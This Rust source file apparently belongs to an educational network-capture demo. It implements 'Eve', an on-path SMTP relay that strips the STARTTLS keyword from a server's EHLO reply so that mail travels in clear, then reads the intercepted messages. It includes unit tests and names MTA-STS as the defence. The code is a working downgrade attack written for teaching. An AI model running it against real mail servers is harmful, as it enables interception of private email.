//! Eve, the attacker on the path between the two mail servers (the attack
//! lessons, `demo --attack`).
//!
//! Loopback cannot put a machine *between* two others, so Eve sits on the
//! path the way a transparent proxy or a hijacked route does: crepes.fr's
//! route to the exchanger of hamburger.edu runs through her
//! (`RelaySettings::via`). She accepts crepes.fr's connection on the SMTP
//! port, opens her own to hamburger.edu from her own address, and copies
//! the bytes both ways. The capture shows both legs: crepes.fr ⇄ Eve and
//! Eve ⇄ hamburger.edu.
//!
//! Between mail servers STARTTLS is opportunistic: a server that finds no
//! STARTTLS in the EHLO reply delivers in clear, since most of the world
//! would otherwise get no mail at all. RFC 3207 §6 names the attack this
//! invites: delete the "250 STARTTLS" line. With `strip_starttls` Eve
//! overwrites the keyword in hamburger.edu's EHLO reply with `XXXXXXXA`,
//! keeping the length, as SMTP-"inspecting" firewalls do. crepes.fr never
//! learns it could encrypt, sends the message in clear, and Eve reads it.
//! MTA-STS (RFC 8461) is the defence: see `world::mta_sts`. Where STARTTLS does go through, she copies the TLS
//! records she cannot read.
//!
//! What Eve saw in clear is kept as the endpoint view of her connection,
//! so the transcript shows her copy, and [`messages_read`] reads the
//! messages out of it with the analyzer's SMTP parser.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinHandle;

use super::client;
use super::recorder::{ConnectionId, Recorder, Tapped, ViewEvent};
use crate::flow::Direction;
use crate::trace::Protocol;

/// What crepes.fr's EHLO reply shows in place of STARTTLS: eight bytes, so
/// the segment keeps its length and its TCP sequence numbers stay right.
pub const BLANKED: &[u8; 8] = b"XXXXXXXA";

/// A line held back longer than this is passed on as it is (the SMTP
/// reply limit of RFC 5321 §4.5.3.1.5 is 512).
const MAX_HELD: usize = 64 * 1024;

/// Where Eve listens and where she forwards.
#[derive(Clone, Copy, Debug)]
pub struct EveSettings {
    /// Eve's address and SMTP port.
    pub listen: SocketAddr,
    /// hamburger.edu's SMTP service.
    pub upstream: SocketAddr,
    /// Blank STARTTLS out of the EHLO reply.
    pub strip_starttls: bool,
}

/// Listen on Eve's SMTP port and relay every connection.
pub async fn listen(
    settings: EveSettings,
    recorder: Recorder,
) -> io::Result<(SocketAddr, JoinHandle<()>)> {
    let listener = TcpListener::bind(settings.listen).await?;
    let local = listener.local_addr()?;
    let task = tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            let recorder = recorder.clone();
            tokio::spawn(async move {
                let _ = relay(socket, settings, recorder).await;
            });
        }
    });
    Ok((local, task))
}

/// Whether the session switched to TLS, as Eve sees it pass.
#[derive(Default)]
struct Upgrade {
    /// The client sent STARTTLS; the next reply decides.
    asked: AtomicBool,
    /// The server said 220 to it: from here on the bytes are TLS records.
    started: AtomicBool,
}

async fn relay(socket: TcpStream, settings: EveSettings, recorder: Recorder) -> io::Result<()> {
    socket.set_nodelay(true)?;
    let id = recorder.open(socket.peer_addr()?, socket.local_addr()?);
    let client = Tapped::new(socket, recorder.clone(), id);
    let server = client::connect_stream(settings.listen.ip(), settings.upstream).await?;
    let (client_read, client_write) = tokio::io::split(client);
    let (server_read, server_write) = server.into_split();
    let upgrade = Arc::new(Upgrade::default());
    let tap = ViewTap { recorder, id };
    let up = client_to_server(client_read, server_write, &tap, &upgrade);
    let down = server_to_client(server_read, client_write, &tap, &upgrade, settings);
    let (a, b) = tokio::join!(up, down);
    a.and(b)
}

/// Notes what Eve read in clear as her connection's endpoint view.
struct ViewTap {
    recorder: Recorder,
    id: ConnectionId,
}

impl ViewTap {
    fn clear(&self, dir: Direction, bytes: &[u8]) {
        self.recorder.endpoint_bytes(self.id, dir, bytes);
    }
}

/// crepes.fr → hamburger.edu: copied unchanged, watched for STARTTLS.
async fn client_to_server(
    mut from: impl AsyncRead + Unpin,
    mut to: impl AsyncWrite + Unpin,
    tap: &ViewTap,
    upgrade: &Upgrade,
) -> io::Result<()> {
    let mut buf = vec![0u8; 16 * 1024];
    let mut line = Vec::new();
    loop {
        let n = from.read(&mut buf).await?;
        if n == 0 {
            return to.shutdown().await;
        }
        let chunk = &buf[..n];
        if !upgrade.started.load(Ordering::SeqCst) {
            tap.clear(Direction::ClientToServer, chunk);
            for &b in chunk {
                if b == b'\n' {
                    if is_starttls_command(&line) {
                        upgrade.asked.store(true, Ordering::SeqCst);
                    }
                    line.clear();
                } else if line.len() < 64 {
                    line.push(b);
                }
            }
        }
        to.write_all(chunk).await?;
    }
}

/// `STARTTLS` alone on a line (RFC 3207 §4), in any case.
fn is_starttls_command(line: &[u8]) -> bool {
    line.strip_suffix(b"\r")
        .unwrap_or(line)
        .trim_ascii()
        .eq_ignore_ascii_case(b"STARTTLS")
}

/// hamburger.edu → crepes.fr: line by line until TLS, so a reply line can
/// be rewritten before it is passed on.
async fn server_to_client(
    mut from: impl AsyncRead + Unpin,
    mut to: impl AsyncWrite + Unpin,
    tap: &ViewTap,
    upgrade: &Upgrade,
    settings: EveSettings,
) -> io::Result<()> {
    let mut buf = vec![0u8; 16 * 1024];
    let mut held: Vec<u8> = Vec::new();
    loop {
        let n = from.read(&mut buf).await?;
        if n == 0 {
            if !held.is_empty() {
                tap.clear(Direction::ServerToClient, &held);
                to.write_all(&held).await?;
            }
            return to.shutdown().await;
        }
        if upgrade.started.load(Ordering::SeqCst) {
            to.write_all(&buf[..n]).await?;
            continue;
        }
        held.extend_from_slice(&buf[..n]);
        let mut out = Vec::with_capacity(held.len());
        let mut start = 0;
        while let Some(end) = memchr::memchr(b'\n', &held[start..]).map(|p| start + p + 1) {
            let mut line = held[start..end].to_vec();
            start = end;
            if settings.strip_starttls {
                blank_starttls(&mut line);
            }
            out.extend_from_slice(&line);
            // The reply to STARTTLS: a 220 means TLS from the next byte
            // on, which is not Eve's to read (RFC 3207 §4).
            if upgrade.asked.swap(false, Ordering::SeqCst) && line.starts_with(b"220") {
                tap.clear(Direction::ServerToClient, &out);
                tap.recorder.tls_started(tap.id);
                upgrade.started.store(true, Ordering::SeqCst);
                out.extend_from_slice(&held[start..]);
                to.write_all(&out).await?;
                held.clear();
                out.clear();
                break;
            }
        }
        if upgrade.started.load(Ordering::SeqCst) {
            continue;
        }
        held.drain(..start);
        if held.len() > MAX_HELD {
            out.append(&mut held);
        }
        if !out.is_empty() {
            tap.clear(Direction::ServerToClient, &out);
            to.write_all(&out).await?;
        }
    }
}

/// Overwrite the keyword of an EHLO reply line `250-STARTTLS` or
/// `250 STARTTLS` (RFC 5321 §4.1.1.1: code, hyphen or space, keyword).
fn blank_starttls(line: &mut [u8]) {
    let text = line.strip_suffix(b"\n").unwrap_or(line);
    let text = text.strip_suffix(b"\r").unwrap_or(text);
    if text.len() >= 4 + BLANKED.len()
        && text.starts_with(b"250")
        && matches!(text[3], b'-' | b' ')
        && text[4..].trim_ascii_end().eq_ignore_ascii_case(b"STARTTLS")
    {
        line[4..4 + BLANKED.len()].copy_from_slice(BLANKED);
    }
}

/// The messages Eve read in clear on her connections (at `eve`), read
/// out of what she saw with the analyzer's SMTP parser.
pub fn messages_read(recorder: &Recorder, eve: IpAddr) -> Vec<Vec<u8>> {
    let mut read = Vec::new();
    for c in recorder.connections() {
        if c.server.ip() != eve {
            continue;
        }
        let clear = c.endpoint_view.iter().map_while(|e| match e {
            ViewEvent::Bytes(dir, bytes) => Some((*dir, bytes.as_slice())),
            ViewEvent::TlsStarted => None,
        });
        read.extend(crate::analysis::messages_in_endpoint_view(
            Protocol::Smtp,
            clear,
        ));
    }
    read
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_starttls_keyword_of_a_250_line_is_blanked() {
        for (line, want) in [
            (&b"250-STARTTLS\r\n"[..], &b"250-XXXXXXXA\r\n"[..]),
            (b"250 starttls\r\n", b"250 XXXXXXXA\r\n"),
            (b"250 STARTTLS  \r\n", b"250 XXXXXXXA  \r\n"),
            (b"250-STARTTLSX\r\n", b"250-STARTTLSX\r\n"),
            (b"250-8BITMIME\r\n", b"250-8BITMIME\r\n"),
            (b"220 STARTTLS\r\n", b"220 STARTTLS\r\n"),
            (
                b"250-hamburger.edu says STARTTLS\r\n",
                b"250-hamburger.edu says STARTTLS\r\n",
            ),
            (b"250-START\r\n", b"250-START\r\n"),
            (b"25", b"25"),
        ] {
            let mut l = line.to_vec();
            blank_starttls(&mut l);
            assert_eq!(l, want, "{}", String::from_utf8_lossy(line));
        }
    }

    #[test]
    fn the_starttls_command_in_any_case() {
        assert!(is_starttls_command(b"STARTTLS\r"));
        assert!(is_starttls_command(b"starttls"));
        assert!(!is_starttls_command(b"STARTTLS now\r"));
        assert!(!is_starttls_command(b"MAIL FROM:<starttls@x>\r"));
    }
}
